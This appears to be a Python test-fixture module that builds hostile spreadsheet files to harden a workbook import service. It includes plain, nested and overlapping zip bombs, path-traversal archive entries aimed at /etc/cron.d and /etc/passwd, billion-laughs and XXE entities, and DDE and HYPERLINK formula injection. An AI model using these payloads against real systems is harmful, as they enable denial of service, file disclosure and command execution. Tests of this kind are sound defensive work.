"""Workbooks that nobody should be able to hurt the service with, made on the spot."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from datetime import date

from tests.rlf.partner_lists.workbooks import (
    SMALL_SHEET,
    cell,
    ods_cell,
    ods_entries,
    ods_row,
    ods_table,
    packed,
    row,
    workbook,
    xlsx_entries,
)
from tests.rlf.partner_lists.xls_files import compound, xls, xls_stream

PEOPLE = [["name", "born"], ["Amina", date(1990, 1, 2)]]
_STYLES = (
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="2">'
    '<xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
)


def sparse_sheet() -> bytes:
    """Two cells, at opposite corners of the largest sheet there is."""
    return workbook(row(1, cell("A1")) + row(1_048_576, cell("XFD1048576")))


def sparse_sheet_without_references() -> bytes:
    """Very many rows, of which one is very wide, without saying where anything is."""
    nameless = b"<c><v>1</v></c>"
    return workbook(b"<row>" + nameless * 16_000 + b"</row>" + b"<row>" + nameless + b"</row>" + b"<row/>" * 400_000)


def zip_bomb() -> bytes:
    """Sixty megabytes of one letter in sixty kilobytes."""
    return workbook(SMALL_SHEET, more={"xl/media/image1.png": b"a" * 60_000_000})


def nested_zip_bomb() -> bytes:
    """A zip of zips of zips, and no workbook."""
    inner = packed({"a": b"a" * 20_000_000})
    for _level in range(3):
        inner = packed({f"{n}.zip": inner for n in range(10)})
    return inner


def overlapping_zip_bomb() -> bytes:
    """Entries that lie in one another: each quotes the header of the next, and all end in the same four megabytes."""
    kernel = b"a" * 4_000_000
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail, plain = deflate.compress(kernel) + deflate.flush(), kernel
    entries = []
    names = [b"xl/workbook.xml", *(b"xl/media/%d.png" % n for n in range(120))]
    for name in reversed(names):
        said = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(plain), len(tail), len(plain), len(name), 0)
        header = b"PK\x03\x04" + said + name
        entries.insert(0, (name, said, len(header)))
        if name != names[0]:
            quoted = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
            plain, tail = header + plain, quoted + header + tail
        else:
            tail = header + tail
    directory, place = b"", 0
    for name, said, length in entries:
        directory += b"PK\x01\x02\x14\x00" + said + struct.pack("<HHHII", 0, 0, 0, 0, place) + name
        place += length + 5
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(tail), 0)
    return tail + directory + b"PK\x05\x06" + end


def text_bomb() -> bytes:
    """One long shared text that a great many cells point to."""
    shared = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        + b"long" * 8_000
        + b"</t></si></sst>"
    )
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 6_000))
    return workbook(rows, more={"xl/sharedStrings.xml": shared})


def many_entries() -> bytes:
    """More files in one file than any workbook has."""
    return workbook(SMALL_SHEET, more={f"xl/media/{n}.png": b"" for n in range(1_000)})


def deep_folders() -> bytes:
    """A workbook buried in folders is none."""
    return packed({"a/" * 5_000 + "xl/workbook.xml": b"<workbook/>"})


def broken_zip() -> bytes:
    """A workbook with its middle overwritten."""
    whole = bytearray(workbook(SMALL_SHEET))
    whole[120:400] = b"\xee" * 280
    return bytes(whole)


def wrong_checksum() -> bytes:
    """A workbook whose directory states another checksum of the sheet than its bytes have."""
    whole = workbook(SMALL_SHEET)
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        checksum = archive.getinfo("xl/worksheets/sheet1.xml").CRC
    return whole.replace(struct.pack("<I", checksum), struct.pack("<I", checksum ^ 1))


def encrypted_zip() -> bytes:
    """A workbook in a zip with a password."""
    whole = bytearray(workbook(SMALL_SHEET))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = whole.find(mark)
        while found >= 0:
            whole[found + place] |= 1
            found = whole.find(mark, found + 4)
    return bytes(whole)


def entries_twice() -> bytes:
    """Two sheets of the same name, so that two readers see two lists."""
    name = "xl/worksheets/sheet1.xml"
    other = xlsx_entries(SMALL_SHEET.replace(b"Amina", b"Another"))[name]
    return workbook(SMALL_SHEET, more={"X" + name[1:]: other}).replace(b"Xl/work", b"xl/work")


def names_that_climb() -> bytes:
    """Entries that would be written elsewhere, if anything were written."""
    return workbook(SMALL_SHEET, more={"../../../etc/cron.d/x": b"x", "/etc/passwd": b"x", "C:\\x.exe": b"MZ"})


def lying_sizes() -> bytes:
    """A bomb whose directory says that it is small."""
    whole = workbook(SMALL_SHEET, more={"xl/sharedStrings.xml": b"a" * 20_000_000})
    return whole.replace((20_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))


def with_definitions(definitions: str, text: str) -> bytes:
    """A workbook whose sheet begins with definitions."""
    xml = (
        f"<!DOCTYPE w [{definitions}]><worksheet><sheetData>{row(1, cell('A1', text)).decode()}</sheetData></worksheet>"
    )
    return workbook(b"", more={"xl/worksheets/sheet1.xml": xml.encode()})


BILLION_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
OUTSIDE = '<!ENTITY x SYSTEM "file:///etc/passwd">'


def days_out_of_calendars() -> bytes:
    """Numbers that are formatted as days, and that no calendar has."""
    days = (b"-5", b"0", b"60", b"2958466", b"1e18", b"1e300", b"-1e300", b"NaN", b"INF")
    rows = (
        row(n, b'<c r="A%d" s="1"><v>%s</v></c>' % (n, day), cell(f"B{n}", "Amina")) for n, day in enumerate(days, 2)
    )
    sheet = row(1, cell("A1", "date of birth"), cell("B1", "name")) + b"".join(rows)
    entries = xlsx_entries(sheet) | {"xl/styles.xml": _STYLES.encode()}
    relations = entries["xl/_rels/workbook.xml.rels"]
    style = (
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
        b'Target="styles.xml"/></Relationships>'
    )
    return packed(entries | {"xl/_rels/workbook.xml.rels": relations.replace(b"</Relationships>", style)})


def formulas() -> bytes:
    """Formulas that would reach out, in a program that works them out."""
    reaching = b'<c r="A2" t="str"><f>HYPERLINK("http://x.example/"&amp;A1,"Amina")</f><v>Amina</v></c>'
    command = b'<c r="B2" t="str"><f>cmd|\' /C calc\'!A0</f><v>#REF!</v></c>'
    return workbook(row(1, cell("A1", "name"), cell("B1", "note")) + row(2, reaching, command))


def deep_sheet() -> bytes:
    """Elements within elements, a hundred thousand deep, in a sheet."""
    return workbook(SMALL_SHEET + b"<row>" * 100_000 + b"</row>" * 100_000)


def ods_of(*rows: str, manifest: str = "", definitions: str = "") -> bytes:
    """An ODS file of one sheet: headings, then these rows."""
    headings = ods_row(ods_cell("name"), ods_cell("age"))
    entries = ods_entries(ods_table("S", headings, *rows), manifest=manifest)
    return packed(entries | {"content.xml": definitions.encode() + entries["content.xml"]})


def ods_repeated(columns: str = "1", rows: str = "1", *, text: str | None = "Amina", after: str = "") -> bytes:
    """One cell that stands for very many, and what comes after it in its row."""
    repeated = ods_cell(text, f'table:number-columns-repeated="{columns}"')
    return ods_of(ods_row(repeated, after, more=f'table:number-rows-repeated="{rows}"'), ods_row(ods_cell("Samir")))


def xls_in_circles(what: str) -> bytes:
    """An old workbook in which a chain of sectors bites its tail, or leads out of the file."""
    whole = bytearray(xls({"S": [["name"], ["Amina"]]}))
    first_entry, table = struct.unpack_from("<I", whole, 48)[0], struct.unpack_from("<I", whole, 76)[0]
    place, value = {
        "workbook": ((table + 1) * 512 + 4 * 3, 1),
        "directory": ((table + 1) * 512 + 4 * first_entry, first_entry),
        "outside": ((table + 1) * 512 + 4 * 3, 0x00FFFFFF),
        "lists": (68, 2),
        "sector size": (30, 40),
    }[what]
    struct.pack_into("<H" if what == "sector size" else "<I", whole, place, value)
    if what == "lists":
        struct.pack_into("<I", whole, (2 + 1) * 512 + 508, 2)
    return bytes(whole)


def xls_with_broken_records() -> bytes:
    """An old workbook with lengths in it that are not true."""
    stream = bytearray(xls_stream({"S": [["name"], ["Amina"]]}))
    stream[2:4] = b"\xff\x7f"
    return compound({"Workbook": bytes(stream)})


def xls_of_two_corners() -> bytes:
    """An old workbook with one cell at each end of its largest sheet."""
    far: list[list[object]] = [["name"], *([] for _row in range(65_534)), [*[None] * 255, "x"]]
    return xls({"S": far})
